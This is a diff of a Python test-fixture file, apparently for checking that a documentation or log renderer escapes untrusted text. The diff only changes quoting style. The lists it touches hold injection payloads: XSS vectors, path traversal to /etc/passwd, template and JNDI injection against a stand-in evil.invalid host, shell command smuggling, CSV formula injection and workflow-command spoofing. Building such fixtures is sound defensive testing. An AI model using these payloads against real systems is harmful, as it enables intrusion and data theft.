@@ -24,7 +24,7 @@ _ELEMENTS = (
 )  # fmt: skip
 #: What ends the place that the text stands in.
 _BREAKS = ("", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</svg>", "</td></tr></table>", "</div></main>",
-           "</a>", "</h1>", "&quot;>", "\\\">", "<!--", "<![CDATA[")  # fmt: skip
+           "</a>", "</h1>", "&quot;>", '\\">', "<!--", "<![CDATA[")  # fmt: skip
 _ATTRIBUTES = tuple(f"{quote} {name}={value} x={quote}" for quote, (name, value) in product(
     ('"', "'", "`", "", "&#34;", "\\'"),
     (("onclick", _CALL), ("onmouseover", _CALL), ("autofocus onfocus", _CALL), ("style", "background:url(//evil.invalid)"), ("id", "__config"),
@@ -34,21 +34,21 @@ _SCHEMES = (
     "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java&#x0a;script:{}", "&#106;avascript:{}", "javascript&colon;{}", "vbscript:{}",
     "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload={}>", "//evil.invalid/{}",
     "\\\\evil.invalid\\{}", "/\\evil.invalid/{}", "https:evil.invalid", "http://[x", "http://evil.invalid@x/", "file:///etc/passwd", "blob:x", "filesystem:x", "about:blank",
-    "view-source:x", "feed:javascript:{}", "javascript://%0a{}", "https://evil.invalid/\"onclick={}", "ftp://evil.invalid", "ws://evil.invalid", "tel:1", "mailto:x?body=<script>{}</script>",
+    "view-source:x", "feed:javascript:{}", "javascript://%0a{}", 'https://evil.invalid/"onclick={}', "ftp://evil.invalid", "ws://evil.invalid", "tel:1", "mailto:x?body=<script>{}</script>",
     "#__config", "?q=<script>{}</script>", "../../../etc/passwd", "%6aavascript:{}", "x:javascript:{}", "JAVASCRIPT:{}", "jav\tascript:{}", "intent:x", "chrome:x", "ms-settings:x",
 )  # fmt: skip
 _LINKS = ("[x]({})", "<{}>", "[x](<{}>)", "![x]({})", "[x]: {}", "[x]({} 'title')", "{}")
 _MARKDOWN = (
-    "# __config", "x {#__config onclick=pwned()}", "x {: #__config .md-header }", "!!! note \"<script>pwned()</script>\"", "??? x", "--8<-- \"/etc/passwd\"",
-    "{% include \"/etc/passwd\" %}", "{{ 7 * 7 }}", "```js\" onmouseover=\"pwned()", "~~~\n<script>pwned()</script>", "    <script>pwned()</script>", "<!-- x", "<![x", "see <![x for details",
+    "# __config", "x {#__config onclick=pwned()}", "x {: #__config .md-header }", '!!! note "<script>pwned()</script>"', "??? x", '--8<-- "/etc/passwd"',
+    '{% include "/etc/passwd" %}', "{{ 7 * 7 }}", '```js" onmouseover="pwned()', "~~~\n<script>pwned()</script>", "    <script>pwned()</script>", "<!-- x", "<![x", "see <![x for details",
     "[^1]: <script>pwned()</script>", "*[x]: <script>pwned()</script>", "$\\href{javascript:pwned()}{x}$", "\\(\\href{javascript:pwned()}{x}\\)", ":material-x:{ onclick=pwned() }", "a | b | c", "|---|---|",
     "| <script>pwned()</script> |", "* * *", "---", "===", "> > > x", "1. x", "- [ ] <img src=x onerror=pwned()>", "[[x]]", "[[[[[[", "](](](", "`" * 80, "*" * 80, "_" * 80, "[" * 100 + "](" * 50,
-    "<a@b.c>", "<https://evil.invalid/?q=\"onclick=pwned()>", "\\", "\\\\<script>pwned()</script>", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()", "&amp;lt;script&amp;gt;",
+    "<a@b.c>", '<https://evil.invalid/?q="onclick=pwned()>', "\\", "\\\\<script>pwned()</script>", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()", "&amp;lt;script&amp;gt;",
     "&NewLine;&Tab;&colon;", "&#0;&#x110000;&#xd800;", "snippet:;/etc/passwd", ".. raw:: html <script>pwned()</script>", "::: x", "!ENV HOME", "[TOC]", "[x]{onclick=pwned()}",
 )  # fmt: skip
 _TEMPLATES = (
     "{0.__class__}", "{self.__init__.__globals__}", "%s %d %(x)s %n", "\\g<0> \\1 $1 ${1}", "{{ config.items() }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{x}}}", "${jndi:ldap://evil.invalid/x}",
-    "`id`", "$(id)", "; id", "| id", "&& id", "%{x}", "{x!r:>{y}}", "{\"a\": 1}", "f\"{x}\"", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "{{constructor.constructor('pwned()')()}}",
+    "`id`", "$(id)", "; id", "| id", "&& id", "%{x}", "{x!r:>{y}}", '{"a": 1}', 'f"{x}"', "\\u003cscript\\u003e", "\\x3cscript\\x3e", "{{constructor.constructor('pwned()')()}}",
 )  # fmt: skip
 #: As GitHub's runner reads a log, and what else is read from one.
 WORKFLOW = (
@@ -59,8 +59,8 @@ WORKFLOW = (
     "::%65rror::x", ":: error::x", "::ERROR::x", "\\n::error::x", "::error title=x,file=y::z", "##vso[task.setvariable variable=x]y", "::error ::", "::::", "::",
 )  # fmt: skip
 _CSV = tuple(sign + body for sign, body in product(
-    ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "'=", "\"=", ",=", ";="),
-    ("cmd|' /C calc'!A0", "HYPERLINK(\"https://evil.invalid\",\"x\")", "1+1", "SUM(1;1)*cmd|x", "IMPORTXML(\"//evil.invalid\")"),
+    ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "'=", '"=', ",=", ";="),
+    ("cmd|' /C calc'!A0", 'HYPERLINK("https://evil.invalid","x")', "1+1", "SUM(1;1)*cmd|x", 'IMPORTXML("//evil.invalid")'),
 ))  # fmt: skip
 _TEX = (
     "\\input{/etc/passwd}",
@@ -115,6 +115,6 @@ STRINGS = tuple(
 #: Harmless texts, to be shown letter by letter.
 HARMLESS = (
     "<s>", "</s>", "[MASK]", "[CLS] x [SEP]", "p < 0.05", "a > b", "x <y> z", "C:\\models", "C:\\new\\table", "a_b", "a_b_c", "*args and **kwargs", "__init__", "1 * 2 * 3", "50 % & more", "AT&T", "R&D",
-    "\"quoted\"", "'quoted'", "it's", "back`tick", "$HOME", "$5 and $6", "#1", "C#", "F# and G##", "a | b", "{x}", "{{ x }}", "{% x %}", "~30", "~~x~~", "^2", "x^2_3", "1. First", "- 5 dB", "+3 dB",
+    '"quoted"', "'quoted'", "it's", "back`tick", "$HOME", "$5 and $6", "#1", "C#", "F# and G##", "a | b", "{x}", "{{ x }}", "{% x %}", "~30", "~~x~~", "^2", "x^2_3", "1. First", "- 5 dB", "+3 dB",
     "=", "@home", "&lt;", "&amp;", "&copy; 2026", "<!-- x -->", "<b>bold</b>", "http://a.b/?c=d&e=f", "a\\_b", "\\(x\\)", "!important", "[x](y)", "![x](y)", "na\u00efve \u2013 \u4e2d\u6587 \u0646\u0645", "0.1 \u00b1 0.2", "%s %d", "a,b;c", "<|endoftext|>",
 )  # fmt: skip
